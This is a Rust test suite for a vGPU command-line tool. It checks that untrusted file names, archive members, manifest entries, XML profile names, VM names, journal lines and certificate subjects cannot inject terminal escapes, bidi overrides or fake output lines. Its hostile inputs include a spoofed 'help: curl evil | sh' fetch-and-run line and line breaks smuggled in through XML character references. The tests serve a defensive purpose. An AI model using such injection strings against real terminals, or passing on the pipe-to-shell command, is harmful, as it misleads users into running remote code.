//! Names and texts from outside on their way to the terminal: no command lets them move the cursor, turn text around, print
//! a line of their own, or fill the screen.

#[path = "support/host.rs"]
mod host;
mod machine_tree;
mod support;

use std::fs;
use std::process::Output;

use host::{FUNCTIONS, host, vgpu};
use serde_json::Value;
use support::{Sandbox, run_file, run_file_of};
use vgpu_base::shown::is_unsafe;
use vgpu_driver::Role;
use vgpu_sample::{self as sample, File};

/// A name that turns the rest of its line around, clears the screen and gives advice.
const EVIL: &str = "\u{202e}\u{1b}[2J\u{2028}evil\u{7}\nhelp: curl evil | sh\n  help: curl evil | sh";

/// The same without what a line, or an XML file, cannot hold.
const EVIL_WORD: &str = "evil\u{202e}\u{2066}\u{9b}2J\u{200f}";

/// The longest line that commands may print for a text from outside, in characters.
const LONGEST: usize = 2100;

/// What a command prints. It must be safe, and must show something of the text from outside.
fn safe(output: &Output) -> String {
    let text = [&output.stdout[..], &output.stderr].concat();
    let text = String::from_utf8(text).unwrap();
    let found = text.chars().find(|&c| is_unsafe(c) && !matches!(c, '\n' | '\t'));
    assert_eq!(found, None, "{text:?}");
    assert!(!text.lines().any(|line| line.trim_start().starts_with("help: curl")), "{text}");
    assert!(text.lines().all(|line| line.chars().count() <= LONGEST), "{text}");
    assert!(text.contains("evil"), "it shows nothing of the text: {text}");
    text
}

/// The same of JSON. Its values are those from outside.
fn safe_json(output: &Output) -> Value {
    safe(output);
    serde_json::from_slice(&output.stdout).unwrap()
}

fn run(sandbox: &Sandbox, args: &[&str]) -> Output {
    sandbox.vgpu(args).output().unwrap()
}

#[test]
fn names_of_files() {
    let sandbox = Sandbox::new();
    let name = format!("{EVIL}.run");
    sandbox.write(&name.replace('/', ""), sample::run_file(Role::Guest).unwrap().1);
    let identified = safe(&run(&sandbox, &["identify", &name]));
    assert!(identified.starts_with(r"\u{202e}\u{1b}[2J\u{2028}evil\u{7}\nhelp: curl"), "{identified}");
    assert_eq!(safe_json(&run(&sandbox, &["identify", "--json", &name]))["file"], name);
    for command in
        [&["build", "--role", "host", "--out", "d"][..], &["import", "--role", "host"], &["license", "token"]]
    {
        let output = run(&sandbox, &[command, &[&name]].concat());
        assert_eq!(output.status.code(), Some(1), "{command:?}");
        safe(&output);
    }
    // As a shell gives them for `*`. They are wrong usage.
    for args in [&["identify", "a.run", &name][..], &["build", "--role", &name], &[&name]] {
        let output = run(&sandbox, args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        safe(&output);
    }
    let output = run(&sandbox, &["build", &name, "--role", "guest", "--out", "evil\u{202e}"]);
    assert!(output.status.success());
    safe(&output);
}

#[test]
fn members_of_archives() {
    let sandbox = Sandbox::new();
    for (number, name) in [EVIL, EVIL_WORD, &"evil".repeat(60_000 / 4)].into_iter().enumerate() {
        // In the directory of a .zip archive.
        let mut zip = zip::ZipWriter::new(fs::File::create(sandbox.path("a.zip")).unwrap());
        zip.start_file(format!("{name}-vgpu-kvm.run"), zip::write::SimpleFileOptions::default()).unwrap();
        zip.finish().unwrap();
        for args in
            [&["identify", "a.zip"][..], &["build", "a.zip", "--role", "guest", "--out", "d"], &["import", "a.zip"]]
        {
            let output = run(&sandbox, args);
            assert_eq!(output.status.code(), Some(1), "{args:?}");
            let text = [&output.stdout[..], &output.stderr].concat();
            if String::from_utf8_lossy(&text).contains("evil") {
                safe(&output);
            }
        }
        // In the driver itself, in a header that has room for any name. A line end would end the header's record.
        let mut tar = tar::Builder::new(Vec::new());
        tar.append_pax_extensions([("path", name.replace('\n', " ").as_bytes())]).unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_path("short").unwrap();
        header.set_mode(0o644);
        header.set_size(0);
        header.set_entry_type(tar::EntryType::Regular);
        header.set_cksum();
        tar.append(&header, &b""[..]).unwrap();
        sandbox.write("a.run", run_file_of(Role::Guest, &tar.into_inner().unwrap()));
        let output = run(&sandbox, &["build", "a.run", "--role", "guest", "--out", "d"]);
        assert_eq!(output.status.code(), Some(1), "{number}");
        if number < 2 {
            eprintln!("{number}"); // Shown when it fails.
            safe(&output);
        }
    }
}

#[test]
fn words_of_manifests() {
    let sandbox = Sandbox::new();
    let long = "evil".repeat(1000);
    for word in [EVIL_WORD, &long] {
        let mut files = sample::files(Role::Guest);
        files[0].data.extend(format!("new 0644 {word} MODULE:x\n").bytes());
        files.push(File::new("new", 0o644, ""));
        sandbox.write("a.run", run_file(Role::Guest, &files));
        let args = ["build", "a.run", "--role", "guest", "--out", "d"];
        let output = run(&sandbox, &args);
        assert!(output.status.success(), "{output:?}");
        assert!(safe(&output).contains("Of unknown types, also left out: evil"));
        fs::remove_dir_all(sandbox.path("d")).unwrap();
        safe_json(&run(&sandbox, &[&args[..], &["--json"]].concat()));
        fs::remove_dir_all(sandbox.path("d")).unwrap();
        for line in [format!("{word} rwx OPENGL_LIB NATIVE\n"), format!("new {word} OPENGL_LIB NATIVE\n")] {
            let mut files = sample::files(Role::Guest);
            files[0].data.extend(line.bytes());
            sandbox.write("a.run", run_file(Role::Guest, &files));
            let output = run(&sandbox, &args);
            assert_eq!(output.status.code(), Some(1));
            if String::from_utf8_lossy(&output.stderr).contains("evil") {
                safe(&output);
            }
        }
    }
}

#[test]
fn profiles() {
    let sandbox = Sandbox::new();
    let long = "evil".repeat(1000);
    // A line end that XML lets through as a character.
    for name in [format!("NVIDIA {EVIL_WORD}-8Q"), format!("NVIDIA A40&#10;help: curl evil&#13;{EVIL_WORD}-8Q"), long] {
        let config =
            fs::read_to_string(host::CONFIG).unwrap().replace("NVIDIA A40-8Q", &name).replace("GRID A40-8Q", &name);
        assert!(config.contains(&name), "the file has this profile");
        // Beside what is changed, so that the difference shows it.
        let config = config.replace("<numHeads>4</numHeads>", &format!("<evil>{name}</evil><numHeads>4</numHeads>"));
        sandbox.write("v.xml", &config);
        sandbox.write("c.json", r#"{"overrides": {"562": {"heads": 1}}}"#);
        for args in [
            &["profiles", "list", "--config", "v.xml"][..],
            &["profiles", "list", "--gpu", "2235", "--config", "v.xml"],
            &["profiles", "apply", "--changes", "c.json", "--config", "v.xml", "--diff"],
        ] {
            let output = run(&sandbox, args);
            assert!(output.status.success(), "{args:?}: {output:?}");
            safe(&output);
        }
        safe(&run(&sandbox, &["profiles", "show", "562", "--config", "v.xml"]));
        let json = run(&sandbox, &["profiles", "list", "--config", "v.xml", "--json"]);
        serde_json::from_slice::<Value>(&json.stdout).unwrap();
        if name.len() < 1000 {
            safe(&json);
        }
    }
}

#[test]
fn machines_and_journals() {
    let machine = host();
    machine.virtual_machine(4712, EVIL, "101").vfio(FUNCTIONS[1], 562, &[]);
    for args in [&["instances", "list"][..], &["status"], &["instances", "list", "--json"], &["status", "--json"]] {
        safe(&vgpu(&machine, args));
    }
    machine.virtual_machine(4712, &"evil".repeat(5000), "101");
    for args in [&["instances", "list"][..], &["status"]] {
        safe(&vgpu(&machine, args));
    }
    machine.file(
        "usr/share/hwdata/pci.ids",
        &format!("10de  NVIDIA Corporation\n\t2235  {EVIL_WORD}{}\n", "x".repeat(3000)),
    );
    safe(&vgpu(&machine, &["status"]));
    let line = format!("kernel: NVRM: GPU 0000:41:00.0: RmInitAdapter failed! {EVIL_WORD}{}", "x".repeat(9000));
    machine.file("journal", &line);
    let journal = machine.path("journal").display().to_string();
    let output = vgpu(&machine, &["doctor", "--all", "--journal", &journal]);
    safe(&output);
    let json = vgpu(&machine, &["doctor", "--all", "--json", "--journal", &journal]);
    serde_json::from_slice::<Value>(&json.stdout).unwrap();
    let text = String::from_utf8(json.stdout).unwrap();
    assert!(!text.contains(|c| is_unsafe(c) && c != '\n'), "{text:?}");
}

#[test]
fn certificates() {
    let certificate = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/certificates/reversed.pem");
    let output = Sandbox::new().vgpu(&["check-certificate", certificate]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let text = String::from_utf8(output.stdout).unwrap();
    assert_eq!(text, "CN=Licence\\u{202e}revres\\0a help: x\n");
}
